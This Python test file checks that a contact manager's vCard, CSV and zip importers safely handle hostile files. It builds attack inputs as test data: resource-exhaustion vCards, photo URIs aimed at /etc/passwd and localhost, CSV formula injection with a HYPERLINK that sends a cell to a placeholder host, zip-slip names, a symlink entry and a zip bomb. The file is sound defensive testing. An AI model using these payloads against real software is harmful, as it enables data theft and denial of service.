"""Files of people that are broken or mean harm: nothing escapes, nothing is fetched, good records are taken."""

from __future__ import annotations

import contextlib
import io
import json
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from cardkeeper.errors import StorageFull, UnreadableFile
from cardkeeper.exchange.archive import Archive
from cardkeeper.exchange.exporting import Format, pieces
from cardkeeper.exchange.loading import bytes_of, load
from cardkeeper.exchange.people import ExportedPerson
from cardkeeper.exchange.vcard import Version, read, write
from cardkeeper.importing.applying import apply
from cardkeeper.importing.archives import load_archive
from cardkeeper.importing.planning import Outcome, plan_of
from cardkeeper.library import Library
from cardkeeper.model.people import Contact, Phone
from cardkeeper.outgoing import write_everything
from tests.core.importing.taking import take_in
from tests.core.library.samples import clock


def vcard(*lines: str) -> bytes:
    return "\n".join(["BEGIN:VCARD", "VERSION:3.0", *lines, "END:VCARD", ""]).encode()


# 18: vCards


HOSTILE = {
    "100,000 cards": lambda: vcard("FN:Ann") * 100_000,
    "100,000 cards without an end": lambda: b"BEGIN:VCARD\nFN:Ann\n" * 100_000,
    "an agent of an agent, 10,000 times": lambda: (
        b"BEGIN:VCARD\nVERSION:2.1\nFN:Ann\n" + b"AGENT:\nBEGIN:VCARD\nFN:Bob\n" * 10_000 + b"END:VCARD\n" * 10_001
    ),
    "a note of 40 MB": lambda: vcard("FN:Ann", "NOTE:" + "x" * 40_000_000),
    "a note folded a million times": lambda: vcard("FN:Ann", "NOTE:" + "x\n " * 1_000_000),
    "a million breaks of quoted-printable": lambda: vcard("FN:Ann", "NOTE;QUOTED-PRINTABLE:" + "=41=\n" * 1_000_000),
    "a million parameters": lambda: vcard("FN:Ann", "TEL" + ";A=B" * 1_000_000 + ":1"),
    "a million quotes": lambda: vcard("FN:Ann", "TEL;" + '"' * 1_000_000 + ":1"),
    "a million lines of rubbish": lambda: vcard("FN:Ann", "rubbish\n" * 1_000_000),
    "a million backslashes": lambda: vcard("FN:Ann", "NOTE:" + "\\" * 1_000_000 + "\nmore"),
    "zeros": lambda: vcard("FN:A\0nn", "\0" * 100_000),
    "bad base64": lambda: vcard("FN:Ann", "PHOTO;ENCODING=b:" + "!*" * 100_000),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_no_vcard_is_too_much(what: str) -> None:
    cards = read(HOSTILE[what]())
    assert cards
    assert cards[0].all("FN")[0].text == "Ann"
    for version in Version:
        write(cards[:1], version)


def test_a_file_larger_than_any_address_book_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UnreadableFile, match="more than any address book"):
        load("a.vcf", vcard("FN:Ann", "NOTE:" + "x" * 51_000_000))
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as file:
        file.truncate(101_000_000)
    with pytest.raises(UnreadableFile, match="more than any address book"):
        bytes_of(huge)


@pytest.mark.parametrize(
    "address", ["file:///etc/passwd", "http://127.0.0.1:1/x.png", "../../x.png", "\\\\server\\share\\x.png"]
)
def test_a_picture_elsewhere_is_never_fetched(address: str, tmp_path: Path) -> None:
    """Sockets are refused while tests run; a file that was opened would be kept."""
    loaded = load("a.vcf", vcard("FN:Ann", f"PHOTO;VALUE=uri:{address}", f"LOGO:{address}", f"KEY:{address}"))
    assert loaded.records[0].files == ()
    with Library.open(tmp_path / "library", now=clock) as library:
        apply(library, plan_of(library, [loaded]), clock(), lambda _done, _of: None)
        assert list(library.files.kept()) == []


def test_good_cards_of_a_broken_file_are_taken_and_the_bad_told_by_line(tmp_path: Path) -> None:
    data = vcard("FN:Ann") + b"BEGIN:VCARD\nFN:Bob\nthis is no property\nPHOTO;ENCODING=b:AAAAA\n" + vcard("FN:Cleo")
    loaded = load("a.vcf", data)
    assert [record.contact.name for record in loaded.records] == ["Ann", "Bob", "Cleo"]
    assert [record.line for record in loaded.records if record.problems] == [5]


# 19: tables


def formulas() -> str:
    return (
        "First Name,Last Name,Phone,Notes\r\n"
        '"=HYPERLINK(""http://x.example?""&A1,""click"")",Lee,+14155550123,@cmd\r\n'
        '\'=1+1,-2+3,\t=1,"=1"\r\n'
        '＝1+1,|calc,%x,"a"";=1+2"\r\n'
    )


def test_formulas_are_taken_as_text_and_leave_harmless() -> None:
    people = [ExportedPerson(record.contact) for record in load("f.csv", formulas().encode()).records]
    assert len(people) == 3
    text = b"".join(pieces(people, Format.SPREADSHEET, lambda _: None)).decode("utf-8-sig")
    cells = [cell for line in text.split("\r\n")[1:] for cell in line.strip('"').split('","')]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t＝＋－＠") and not cell[1:].isdigit()]


def test_formulas_come_back_from_the_tables_of_other_programs() -> None:
    contact = Contact("=1+1 Lee", phones=(Phone("+14155550123"),), notes="@cmd")
    for form in (Format.GOOGLE, Format.OUTLOOK):
        (record,) = load("f.csv", b"".join(pieces([ExportedPerson(contact)], form, lambda _: None))).records
        assert (record.contact.name, record.contact.notes) == (contact.name, contact.notes)


@pytest.mark.parametrize(
    "data",
    [
        b"First Name,Notes\n" + b'Ann,"x\n' * 100_000,
        b"," * 1_000_000,
        b'"' * 1_000_000,
        b"First Name,Last Name\n" + b"\0,x\n" * 100_000,
        b"First Name" + b",x" * 100_000 + b"\nAnn\n",
        b"First Name\n" + b"a" * 11_000_000 + b"\nBob\n",
        b"\xff\xfe" + b"\x00\xd8" * 100_000,
        b"PK\x03\x04" + b"x" * 1000,
    ],
)
def test_no_table_is_too_much(data: bytes) -> None:
    with contextlib.suppress(UnreadableFile):
        assert len(load("a.csv", data).records) <= 100_000


def test_nothing_is_imported_until_it_is_confirmed(tmp_path: Path) -> None:
    with Library.open(tmp_path / "library", now=clock) as library:
        loaded = load("a.csv", b'First Name,Notes\nAnn,"never closed\nBob,ok\n')
        plan = plan_of(library, [loaded])
        assert [(item.outcome, item.line) for item in plan.items] == [(Outcome.PROBLEM, 2), (Outcome.NEW, 3)]
        assert loaded.table
        assert (loaded.table.encoding, loaded.table.delimiter) == ("utf-8", ",")
        assert library.people.all() == ()


# 3: a full disk within an import


def test_a_full_disk_within_an_import_leaves_nothing_of_it(tmp_path: Path) -> None:
    text = "Name,Email,Notes\n" + "".join(f"Person {n},p{n}@x.example,{'n' * 2000}\n" for n in range(300))
    with Library.open(tmp_path / "library", now=clock) as library:
        library.people.save(Contact("Ann"))
        plan = plan_of(library, [load("a.csv", text.encode())])
        pages = library._connection.value("PRAGMA page_count")
        library._connection.value(f"PRAGMA max_page_count = {pages + 60}")
        with pytest.raises(StorageFull):
            apply(library, plan, clock(), lambda _done, _of: None)
        library._connection.value("PRAGMA max_page_count = 1000000")
        assert [person.name for person in library.people.all()] == ["Ann"]
        assert library.check().ok
        apply(library, plan, clock(), lambda _done, _of: None)
        assert len(library.people.all()) == 301


# 20: archives


def altered(source: Path, target: Path, change: Callable[[zipfile.ZipFile], None]) -> Path:
    """A copy of an archive with something added."""
    target.write_bytes(source.read_bytes())
    with zipfile.ZipFile(target, "a") as archive:
        change(archive)
    return target


@pytest.fixture
def good(tmp_path: Path) -> Path:
    with Library.open(tmp_path / "source", now=clock) as library:
        library.people.save(Contact("Ann Lee", emails=("ann@x.example",)))
        library.files.keep_bytes(b"\xff\xd8\xff picture", ".jpg")
        write_everything(library, tmp_path / "good.zip", clock())
    return tmp_path / "good.zip"


def link(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo(f"files/ab/ab{'0' * 62}.jpg")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(info, "/etc/passwd")


NAMES = ("../x", "/abs", "C:\\x", "CON", "files/../../x", "n" * 300, "\u202egpj.exe", "tables/../x.jsonl", "a\0b")


@pytest.mark.parametrize("name", NAMES)
def test_an_entry_that_is_none_of_ours_is_refused(good: Path, tmp_path: Path, name: str) -> None:
    bad = altered(good, tmp_path / "bad.zip", lambda archive: archive.writestr(name, b"harm"))
    before = sorted(path for path in tmp_path.rglob("*") if "library" not in path.parts)
    with Library.open(tmp_path / "library", now=clock) as library:
        take_in(library, bad)
        assert [person.name for person in library.people.all()] == ["Ann Lee"]
    with Archive(bad) as archive:
        assert len(archive.refused) == 1
        assert "no part of an archive" in archive.refused[0]
    assert sorted(path for path in tmp_path.rglob("*") if "library" not in path.parts) == before
    assert load_archive(bad).remarks == archive.refused


def test_a_link_is_refused(good: Path, tmp_path: Path) -> None:
    bad = altered(good, tmp_path / "bad.zip", link)
    with Archive(bad) as archive:
        assert ["no plain file" in said for said in archive.refused] == [True]


def test_a_bomb_is_refused(good: Path, tmp_path: Path) -> None:
    def bomb(archive: zipfile.ZipFile) -> None:
        archive.writestr(f"files/ab/ab{'0' * 62}.jpg", b"\0" * 50_000_000, zipfile.ZIP_DEFLATED)

    bad = altered(good, tmp_path / "bad.zip", bomb)
    assert bad.stat().st_size < 200_000
    with Archive(bad) as archive:
        assert ["far too large" in said for said in archive.refused] == [True]


def test_a_picture_that_was_altered_is_not_taken(good: Path, tmp_path: Path) -> None:
    bad = altered(good, tmp_path / "bad.zip", lambda archive: archive.writestr(f"files/ab/ab{'0' * 62}.jpg", b"x"))
    with Library.open(tmp_path / "library", now=clock) as library:
        with pytest.raises(UnreadableFile, match="not what it was"):
            take_in(library, bad)
        assert library.whole.empty


@pytest.mark.parametrize("where", [0, 30, 200, -200, -30])
def test_a_damaged_archive_is_told_and_nothing_taken(good: Path, tmp_path: Path, where: int) -> None:
    data = bytearray(good.read_bytes())
    start = where % len(data)
    data[start : start + 12] = b"\xee" * 12
    bad = tmp_path / "bad.zip"
    bad.write_bytes(data)
    with Library.open(tmp_path / "library", now=clock) as library:
        with contextlib.suppress(UnreadableFile):
            take_in(library, bad)
        assert [person.name for person in library.people.all()] in ([], ["Ann Lee"])
        assert library.check(repair=True).ok


def test_rows_that_do_not_fit_together_are_taken_back(good: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(bad, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "tables/phones.jsonl":
                row = {"id": 1, "contact_id": 99, "place": 0, "number": "1", "kind": "work", "e164": ""}
                data = json.dumps(row).encode() + b"\n"
            target.writestr(name, data)
    with Library.open(tmp_path / "library", now=clock) as library:
        with pytest.raises(UnreadableFile, match="damaged"):
            take_in(library, bad)
        assert library.whole.empty


def test_a_zip_of_something_else_is_named(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "x")
    with pytest.raises(UnreadableFile, match="no CSV"):
        load("a.docx", buffer.getvalue())


def test_a_table_of_a_million_rows_is_refused_at_once() -> None:
    with pytest.raises(UnreadableFile, match="more than 250000 rows"):
        load("people.csv", b"Name\n" + b"A\n" * 1_370_000)
